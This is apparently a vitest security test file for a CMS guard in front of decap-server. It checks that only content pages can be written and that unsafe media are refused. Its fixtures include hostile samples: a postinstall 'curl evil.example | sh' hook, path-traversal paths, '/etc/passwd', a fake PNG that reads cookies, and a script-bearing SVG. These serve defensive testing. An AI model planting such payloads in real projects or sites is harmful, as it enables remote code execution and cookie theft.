import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { createServer } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cmsGuard, cmsRequestAllowed } from '../../../scripts/cms-guard.ts';
import { cmsMediaRefused } from '../../../src/features/content/cms/cms-integration.ts';
import { cmsMediaHeaders } from '../../../src/server/http/static-site.ts';

/**
 * The content editor's reach (decision 0237): decap-server behind the guard npm run cms puts in front of it writes a
 * content page into the checkout, but a request for package.json or server code, or from another page, never reaches
 * it; media that are not images or tracks stop the build.
 */
const ROOT = path.resolve(import.meta.dirname, '../../..');
const SHOP = 'http://localhost:4321';
let checkout: string;
let decap: ChildProcess;
let guard: Server;
let port = 0;

const freePort = () =>
  new Promise<number>((resolve) => {
    const s = createServer().listen(0, '127.0.0.1', () => {
      const p = (s.address() as { port: number }).port;
      s.close(() => resolve(p));
    });
  });

beforeAll(async () => {
  checkout = mkdtempSync(path.join(os.tmpdir(), 'ugift-cms-checkout-'));
  writeFileSync(path.join(checkout, 'package.json'), '{"name":"untouched"}');
  mkdirSync(path.join(checkout, 'src/server'), { recursive: true });
  const inner = await freePort();
  decap = spawn(process.execPath, [path.join(ROOT, 'node_modules/decap-server/dist/index.js')], {
    stdio: 'ignore',
    env: { ...process.env, PORT: String(inner), BIND_HOST: '127.0.0.1', GIT_REPO_DIRECTORY: checkout, MODE: 'fs' },
  });
  port = await freePort();
  guard = cmsGuard(new URL(`http://127.0.0.1:${inner}`), [SHOP]).listen(port, '127.0.0.1');
  for (let i = 0; i < 100; i++) {
    const up = await fetch(`http://127.0.0.1:${port}/api/v1`, {
      method: 'POST',
      body: '{"action":"info"}',
      headers: { 'content-type': 'application/json' },
    }).catch(() => null);
    if (up?.status === 200) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('decap-server did not start');
}, 30_000);
afterAll(() => {
  guard?.close();
  decap?.kill('SIGTERM');
});

const persist = (file: string, raw: string, origin = SHOP) =>
  fetch(`http://127.0.0.1:${port}/api/v1`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin },
    body: JSON.stringify({
      action: 'persistEntry',
      params: {
        branch: 'main',
        entry: { slug: 'x', path: file, raw },
        assets: [],
        options: { collectionName: 'pages', useWorkflow: false, commitMessage: 'edit', status: 'draft' },
      },
    }),
  });

describe('the content editor backend', () => {
  it('writes content pages into the checkout, and nothing else of it', async () => {
    expect((await persist('src/content/privacy/eng/page.md', '# Privacy')).status).toBe(200);
    expect(readFileSync(path.join(checkout, 'src/content/privacy/eng/page.md'), 'utf8')).toBe('# Privacy');
    expect((await persist('package.json', '{"scripts":{"postinstall":"curl evil.example | sh"}}')).status).toBe(403);
    expect((await persist('src/content/../server/main.ts', 'process.exit(1)')).status).toBe(403);
    expect((await persist('src/content/x.md', 'from another page', 'http://localhost:3000')).status).toBe(403);
    expect(readFileSync(path.join(checkout, 'package.json'), 'utf8')).toBe('{"name":"untouched"}');
    expect(existsSync(path.join(checkout, 'src/server/main.ts'))).toBe(false);
    expect(existsSync(path.join(checkout, 'src/content/x.md'))).toBe(false);
  });

  it('looks at every path a request names', () => {
    const ok = (params: unknown) => cmsRequestAllowed(SHOP, { action: 'x', params }, [SHOP]);
    expect(ok({ assets: [{ path: 'public/cms-media/a.png' }], entry: { path: 'src/content/a.md' } })).toBe(true);
    expect(ok({ assets: [{ path: 'public/index.html' }], entry: { path: 'src/content/a.md' } })).toBe(false);
    expect(ok({ dataFiles: [{ path: 'src/content/a.md', newPath: 'scripts/start.ts' }] })).toBe(false);
    expect(ok({ paths: ['src/content/a.md', '/etc/passwd'] })).toBe(false);
    expect(ok({ path: 'public/cms-media/../../netlify.toml' })).toBe(false);
  });

  it('refuses media that are not images or tracks by their bytes', () => {
    const media = mkdtempSync(path.join(os.tmpdir(), 'ugift-cms-media-'));
    writeFileSync(path.join(media, 'photo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48]));
    writeFileSync(path.join(media, 'evil.png'), 'alert(document.cookie)//padding padding');
    writeFileSync(path.join(media, 'page.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(cmsMediaRefused(media).sort()).toEqual(['evil.png', 'page.svg']);
  });

  it('serves the editor’s media inert: no policy runs anything, and other kinds download', () => {
    expect(cmsMediaHeaders('image/png')).toEqual({ 'Content-Security-Policy': "default-src 'none'; sandbox" });
    for (const type of ['text/javascript; charset=utf-8', 'image/svg+xml', 'text/html; charset=utf-8'])
      expect(cmsMediaHeaders(type)).toMatchObject({ 'Content-Type': 'application/octet-stream', 'Content-Disposition': 'attachment' });
  });
});
